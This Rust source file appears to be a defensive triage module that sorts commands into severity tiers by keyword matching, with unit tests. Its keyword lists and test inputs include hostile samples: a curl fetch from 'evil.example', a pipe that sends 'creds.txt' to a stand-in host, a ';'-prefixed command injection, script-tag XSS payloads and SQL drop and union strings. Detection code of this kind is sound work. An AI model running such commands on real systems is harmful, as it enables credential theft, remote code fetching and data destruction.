//! Deterministic severity triage for allowed commands.
//!
//! Pure keyword matching over the lowercased command, first matching tier
//! wins. Always returns a tier; a command matching none of the families is
//! `Low`.

use crate::event::Severity;

/// Destructive operations.
const CRITICAL_KEYWORDS: &[&str] = &["drop", "delete", "update", "shutdown", "truncate"];

/// Data exfiltration and remote execution.
const HIGH_KEYWORDS: &[&str] = &["union", "select", "curl", "wget", "from_schema"];

/// Reconnaissance and script injection.
const MEDIUM_KEYWORDS: &[&str] = &["ls", "cat", "whoami", "<script>", "alert"];

/// Classify a command into a severity tier.
pub fn classify(command: &str) -> Severity {
    let lower = command.to_lowercase();
    if contains_any(&lower, CRITICAL_KEYWORDS) {
        Severity::Critical
    } else if contains_any(&lower, HIGH_KEYWORDS) {
        Severity::High
    } else if contains_any(&lower, MEDIUM_KEYWORDS) {
        Severity::Medium
    } else {
        Severity::Low
    }
}

fn contains_any(haystack: &str, keywords: &[&str]) -> bool {
    keywords.iter().any(|k| haystack.contains(k))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn destructive_is_critical() {
        assert_eq!(classify("DROP TABLE users"), Severity::Critical);
        assert_eq!(classify("delete from accounts"), Severity::Critical);
        assert_eq!(classify("TRUNCATE logs"), Severity::Critical);
    }

    #[test]
    fn exfiltration_is_high() {
        assert_eq!(classify("UNION SELECT * FROM users"), Severity::High);
        assert_eq!(classify("UNION SELECT 1,2,3"), Severity::High);
        assert_eq!(classify("curl http://evil.example/x.sh"), Severity::High);
    }

    #[test]
    fn recon_is_medium() {
        assert_eq!(classify("<script>xss()</script>"), Severity::Medium);
        assert_eq!(classify("whoami"), Severity::Medium);
        assert_eq!(classify("; cat /proc/version"), Severity::Medium);
    }

    #[test]
    fn script_alert_is_medium() {
        assert_eq!(classify("<script>alert(1)</script>"), Severity::Medium);
    }

    #[test]
    fn unmatched_is_low() {
        assert_eq!(classify("hello"), Severity::Low);
        assert_eq!(classify(""), Severity::Low);
    }

    #[test]
    fn precedence_critical_over_high() {
        // Contains both "select" (High) and "drop" (Critical).
        assert_eq!(classify("SELECT 1; DROP TABLE users"), Severity::Critical);
    }

    #[test]
    fn precedence_high_over_medium() {
        // Contains both "cat" (Medium) and "curl" (High).
        assert_eq!(classify("cat creds.txt | curl -d @- evil"), Severity::High);
    }

    #[test]
    fn matching_is_case_insensitive() {
        assert_eq!(classify("ShUtDoWn"), Severity::Critical);
        assert_eq!(classify("WGET x"), Severity::High);
    }

    #[test]
    fn total_over_arbitrary_bytes() {
        assert_eq!(classify("\u{0}\u{1}\u{fffd} ~~~"), Severity::Low);
    }
}
